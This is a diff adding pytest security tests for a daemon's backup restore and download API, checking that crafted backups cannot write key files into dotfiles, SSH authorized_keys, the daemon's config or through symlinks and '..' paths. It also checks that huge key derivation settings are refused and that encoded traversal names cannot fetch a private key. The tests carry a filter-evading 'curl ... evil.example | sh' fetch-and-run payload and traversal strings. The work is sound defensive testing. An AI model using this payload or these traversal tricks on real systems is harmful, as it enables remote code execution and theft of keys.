@@ -1,0 +1,121 @@
+"""Backups as an attacker writes them, against a real daemon's admin API: a backup is a file someone
+hands over, and restoring it must not make the daemon write outside what it restores (its key files
+into dotfiles, its own home, through a symlink), nor spend gigabytes on a key derivation the file
+asks for, nor serve anything but the backups of its directory."""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from pathlib import Path
+
+import pytest
+
+from daemon.api.backup import BackupSecrets, KdfParams
+from daemon.api.client import DaemonError
+from daemon.backup import crypto, document
+from tests.daemon.harness import running_daemon
+
+PASSPHRASE = "the attacker chose this one"
+
+
+def _external(model_id: str, key_file: str) -> dict[str, object]:
+    return {"id": model_id, "served_name": model_id, "runtime": "external", "node": "local",
+            "base_url": "https://api.example.com/v1", "provider_model": "gpt-4o", "api_key_file": key_file}
+
+
+def _crafted(key_files: dict[str, str]) -> str:
+    """A well-formed, encrypted backup whose models name ``key_files`` and whose secrets carry them."""
+    contents = document.Contents(models=[_external(f"m{i}", path) for i, path in enumerate(key_files)],
+                                 keys=[], nodes=[], settings={})
+    return document.build(contents, BackupSecrets(key_files=key_files), PASSPHRASE, created_at=time.time(),
+                          host="evil", daemon_version="0").decode()
+
+
+async def test_a_backups_key_files_never_land_in_dotfiles_the_daemons_home_or_through_a_link(
+        tmp_path: Path) -> None:
+    home, victim = tmp_path / "home", tmp_path / "victim"
+    (victim / ".config").mkdir(parents=True)
+    bashrc = victim / ".bashrc"
+    bashrc.write_text("# mine\n")
+    (tmp_path / "link").symlink_to(victim / ".config", target_is_directory=True)
+    ok = tmp_path / "keys" / "provider.key"
+    payload = "curl${IFS}-s${IFS}https://evil.example/x|sh"
+    attacks = {
+        str(bashrc): "existing dotfile",
+        str(victim / ".ssh" / "authorized_keys"): "new file in a hidden folder",
+        str(home / "config.toml"): "the daemon's own config",
+        str(home / "pki" / "ca.crt"): "the daemon's CA",
+        str(tmp_path / "link" / "autostart" / "evil.desktop"): "through a symlink",
+        f"{tmp_path}/keys/../victim/.profile": "with ..",
+    }
+    async with running_daemon(home, None, local_agent=False) as rd:
+        config_before = (home / "config.toml").read_bytes() if (home / "config.toml").exists() else None
+        ca_before = (home / "pki" / "ca.crt").read_bytes()
+        text = _crafted({**{path: payload for path in attacks}, str(ok): "sk-fine\n"})
+        preview = {(r.kind, r.id): r for r in (await rd.client.preview_restore(text, PASSPHRASE)).rows}
+        for path, what in attacks.items():
+            row = preview[("secret", path)]
+            assert row.change == "skipped" and (row.note or "").startswith("not written"), (what, row)
+        assert preview[("secret", str(ok))].change == "new"
+        await rd.client.restore_backup(text, PASSPHRASE)
+        assert (home / "pki" / "ca.crt").read_bytes() == ca_before
+        assert ((home / "config.toml").read_bytes() if (home / "config.toml").exists() else None) == config_before
+    assert bashrc.read_text() == "# mine\n"
+    assert not (victim / ".ssh").exists() and not (victim / ".profile").exists()
+    assert not (victim / ".config" / "autostart").exists()
+    assert ok.read_text() == "sk-fine\n" and ok.stat().st_mode & 0o777 == 0o600  # a plain path still restores
+    assert payload not in "".join(p.read_text(errors="replace") for p in home.rglob("*")
+                                  if p.is_file() and p.suffix in (".log", ".toml", ".json"))
+
+
+def _with_kdf(text: str, **params: int) -> str:
+    doc = json.loads(text)
+    doc["secrets"]["kdf"].update(params)
+    return json.dumps(doc)
+
+
+@pytest.mark.parametrize("params", [{"n": 2**30}, {"n": 2**20, "r": 16}, {"n": 2**18, "r": 16, "p": 4},
+                                    {"n": 2**17, "r": 8, "p": 1000}, {"iterations": 10**12}],
+                         ids=["n=2^30", "2GiB", "512MiB", "p=1000", "pbkdf2-1e12"])
+async def test_a_key_derivation_the_file_makes_huge_is_refused_before_it_runs(
+        tmp_path: Path, params: dict[str, int]) -> None:
+    text = _crafted({})
+    if "iterations" in params:
+        doc = json.loads(text)
+        doc["secrets"]["kdf"] = {"name": "pbkdf2-sha256", "salt": doc["secrets"]["kdf"]["salt"], **params}
+        text = json.dumps(doc)
+    else:
+        text = _with_kdf(text, **params)
+    async with running_daemon(tmp_path / "home", None, local_agent=False) as rd:
+        for call in (rd.client.preview_restore, rd.client.restore_backup):
+            with pytest.raises(DaemonError) as caught:
+                await call(text, PASSPHRASE)
+            assert caught.value.code == "backup_invalid" and "more than a restore will spend" in caught.value.message
+
+
+def test_the_kdf_a_backup_is_written_with_is_within_what_a_restore_spends() -> None:
+    crypto.check_kdf(crypto.new_kdf())
+    crypto.check_kdf(KdfParams(name="scrypt", salt=crypto.b64(os.urandom(16)), n=2**18, r=8, p=1))  # room to grow
+
+
+async def test_only_backup_files_of_the_directory_are_served(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    secret = tmp_path / "id_ed25519"
+    secret.write_text("PRIVATE KEY MATERIAL\n")
+    async with running_daemon(home, None, local_agent=False) as rd:
+        real = await rd.client.save_backup()
+        backups = home / "backups"
+        planted = backups / "mirbadllm-backup-box-20260101-000000.json"
+        planted.symlink_to(secret)  # e.g. a shared backup folder someone else can write to
+        (backups / "mirbadllm-backup-box-20260101-000001.json\n").write_text("{}")
+        for name in (planted.name, "mirbadllm-backup-box-20260101-000001.json%0A", "..%2Fconfig.toml",
+                     "..%2F..%2Fid_ed25519", "mirbadllm-backup-..%2F..-20260101-000000.json"):
+            with pytest.raises(DaemonError) as caught:
+                await rd.client.download_backup(name)
+            assert caught.value.status == 404, (name, caught.value)
+            assert "PRIVATE KEY" not in caught.value.message
+        listed = [f.name for f in (await rd.client.list_backups()).files]
+        assert listed == [real.name]
+        assert json.loads(await rd.client.download_backup(real.name))["format"] == "mirbadllm-backup"
